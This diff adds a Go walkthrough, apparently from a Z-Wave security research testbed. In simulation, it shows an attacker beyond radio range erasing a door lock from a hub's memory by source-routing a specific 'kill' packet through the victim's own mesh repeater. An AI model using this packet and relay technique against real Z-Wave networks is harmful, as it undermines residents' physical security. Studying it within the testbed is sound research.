@@ -1,0 +1,60 @@
+// Mesh-range walkthrough: the paper positions the attacker 10–70 m from
+// the target (§II-B, Fig. 2). Z-Wave is a mesh, and that geometry matters:
+// an attacker beyond direct radio range of the controller can still land
+// the memory-tampering packet by source-routing it through the victim's
+// own mains-powered repeater — the network forwards the attack for free.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"zcover"
+	"zcover/internal/device"
+	"zcover/internal/protocol"
+	"zcover/internal/testbed"
+)
+
+func main() {
+	tb, err := zcover.NewTestbed("D6", 42)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// Geometry: hub in the living room, repeater switch by the porch,
+	// attacker parked 70 m down the street. Radio range: 40 m.
+	tb.Medium.SetRange(40)
+	tb.Controller.Node().Place(0, 0)
+	tb.Lock.Node().Place(5, 0)
+	tb.Switch.Node().Place(35, 0)
+
+	attacker := device.NewNode(device.Config{
+		Medium: tb.Medium, Region: tb.Region,
+		Home: tb.Home(), ID: 0x0F, Name: "attacker",
+	})
+	attacker.Place(70, 0)
+
+	kill := []byte{0x01, 0x0D, byte(testbed.LockID)} // erase the lock (bug 03)
+
+	fmt.Println("1. Attacker at 70 m injects the kill packet directly (range 40 m)...")
+	if err := attacker.Send(testbed.ControllerID, kill); err != nil {
+		log.Fatal(err)
+	}
+	if _, ok := tb.Controller.Table().Get(testbed.LockID); ok {
+		fmt.Println("   -> out of range: the controller never heard it.")
+	}
+
+	fmt.Println("\n2. Attacker source-routes the same packet through the porch switch")
+	fmt.Println("   (node 3, a mains-powered repeater 35 m from both parties)...")
+	if err := attacker.SendRouted(testbed.ControllerID,
+		[]protocol.NodeID{testbed.SwitchID}, kill); err != nil {
+		log.Fatal(err)
+	}
+	if _, ok := tb.Controller.Table().Get(testbed.LockID); !ok {
+		fmt.Println("   -> delivered: the victim's own mesh repeated the attack,")
+		fmt.Println("      and the door lock is gone from the controller's memory.")
+	}
+	for _, e := range tb.Bus.Events() {
+		fmt.Printf("\noracle: %s\n", e)
+	}
+}
